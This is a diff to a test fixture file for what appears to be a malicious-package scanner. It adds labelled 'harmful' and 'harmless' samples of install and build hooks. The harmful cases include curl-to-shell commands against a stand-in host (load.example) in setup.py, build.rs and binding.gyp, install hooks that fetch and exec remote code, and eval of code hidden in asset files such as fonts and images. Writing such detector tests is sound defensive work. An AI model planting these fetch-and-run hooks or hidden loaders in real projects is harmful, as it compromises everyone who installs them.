@@ -42,6 +42,12 @@ export const harmful: Cases = {
       'packages/inner/package.json':
         '{"scripts":{"install":"powershell -c iex (irm https://load.example/x)"}}',
     },
+    { 'setup.py': 'import os\nos.system("curl -s https://load.example/x | sh")\nsetup(name="a")' },
+    {
+      'crates/a/build.rs':
+        'fn main() {\n  Command::new("sh").arg("-c")\n    .arg("curl -s https://load.example/x | bash").status();\n}',
+    },
+    { 'binding.gyp': `{"targets": [{"sources": ["<!(curl -s https://load.example/x | node)"]}]}` },
   ],
   folder_task_download: [
     tasks('curl https://load.example/x | bash'),
@@ -170,6 +176,40 @@ export const harmful: Cases = {
     { 'a.js': "execSync('curl -s https://load.example/x | sh')" },
     scripts({ setup: 'curl https://load.example/x | bash' }),
   ],
+  hook_program: [
+    {
+      'setup.py':
+        'from urllib.request import urlopen\nclass Install(install):\n  def run(self):\n    exec(urlopen(address).read())',
+    },
+    {
+      'tests/conftest.py':
+        'import requests, subprocess\nopen("x", "wb").write(requests.get(address).content)\nsubprocess.run(["./x"])',
+    },
+    {
+      'build.rs':
+        'fn main() {\n  let body = ureq::get(ADDRESS).call();\n  Command::new("./tool").status().unwrap();\n}',
+    },
+    { 'ext/extconf.rb': 'require "net/http"\neval Net::HTTP.get(URI(address))' },
+    { 'src/a.pth': 'import os; exec(x)' },
+  ],
+  code_of_files: [
+    { 'a.js': "const fs = require('fs')\neval(fs.readFileSync('assets/logo.dat', 'utf8'))" },
+    { 'a.mjs': "new Function('require', await fs.readFile(root + '/fonts/a.woff2', 'utf8'))(require)" },
+    {
+      'a.js':
+        "const { head } = require('./parts/one')\nconst tail = require('./parts/two')\neval(head + tail)",
+    },
+    { 'a.ts': "import one from './one'\nimport { two } from './two'\nnew Function([one, two].join(''))()" },
+    { 'a.js': "const text = fs.readFileSync(join(root, 'logo.png')).toString()\neval(text)" },
+    {
+      'a.js': "const one = require('./one')\nconst two = require('./two')\nconst all = one + two\neval(all)",
+    },
+    { 'a.js': "eval(['./one', './two'].map(require).join(''))" },
+    { 'a.py': "exec(open('assets/data.bin').read())" },
+    { 'a.py': "parts = [open(name + '.txt').read() for name in names]\nexec(''.join(parts))" },
+    { 'a.py': 'from .one import head\nfrom .two import tail\nexec(head + tail)' },
+    { 'a.py': "exec(''.join([head, tail]))\nfrom parts import head, tail" },
+  ],
   evaluates: [{ 'a.js': 'const answer = await fetch(url)\nconst code = wrap(answer)\neval(code)' }],
   encoded_address: [{ 'a.js': `const url = '${base64('https://load.example/some/path')}'` }],
   long_line: [{ 'a.js': `${written}\nvar x = "${'ab'.repeat(2000)}"` }],
@@ -197,6 +237,12 @@ export const harmless: Cases = {
     scripts({ postinstall: 'curl -fsSL https://bun.sh/install | bash' }),
     scripts({ postinstall: 'node scripts/curl.js' }),
     scripts({ release: 'curl https://hooks.example/x -d done' }),
+    { 'setup.py': '# os.system("curl https://load.example/x | sh")\nsetup(name="a")' },
+    { 'build.rs': 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }' },
+    {
+      'binding.gyp':
+        '{"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")", "<!@(pkg-config --cflags cairo)"]}',
+    },
   ],
   folder_task_download: [tasks('npm run watch'), tasks('curl https://load.example/x | bash', 'default')],
   fetched_code: [
@@ -307,6 +353,29 @@ export const harmless: Cases = {
     { 'run.sh': 'curl -fsSL https://get.pnpm.io/install.sh | sh -\ncurl https://api.example > answer.json' },
     { '.github/workflows/ci.yml': 'run: curl https://load.example/x | bash' },
     { 'a.js': "const help = 'Install it with: curl https://load.example/x | sh'" },
+  ],
+  hook_program: [
+    {
+      'setup.py':
+        'import subprocess\nversion = subprocess.check_output(["git", "describe"])\nexec(open("a/version.py").read())\nsetup(url="https://a.example")',
+    },
+    { 'tests/conftest.py': 'import requests\ndef client():\n  return requests.get("http://localhost:8000")' },
+    {
+      'build.rs': 'fn main() { Command::new("git").args(["rev-parse", "HEAD"]).output(); cc::Build::new(); }',
+    },
+    { 'ext/extconf.rb': 'require "mkmf"\nsystem("make -C vendor")\ncreate_makefile("a")' },
+    { 'client.py': 'import requests, subprocess\nsubprocess.run(requests.get(address).json())' },
+    { 'src/a.pth': 'model weights\n../lib' },
+  ],
+  code_of_files: [
+    { 'setup.py': "exec(open('package/__version__.py').read())" },
+    { 'a.py': "exec(compile(open(filename, 'rb').read(), filename, 'exec'))" },
+    { 'a.js': "const text = fs.readFileSync('views/page.txt', 'utf8')\nrender(text)" },
+    { 'a.js': "const fs = require('fs')\nvm.runInThisContext(fs.readFileSync('lib/worker.js', 'utf8'))" },
+    { 'a.js': "const compile = require('./compile')\nconst render = new Function('data', compile(source))" },
+    { 'a.js': "const parts = require('./parts')\nconst match = /a/.exec(parts.one + parts.two)" },
+    { 'a.js': "import { template } from './template'\nrender(template + 'evaluate(template)')" },
+    { 'a.py': 'from .query import select, where\ndb.exec(select + where)' },
   ],
   evaluates: [{ 'a.js': "const answer = await fetch(url)\nconst global = new Function('return this')()" }],
   encoded_address: [
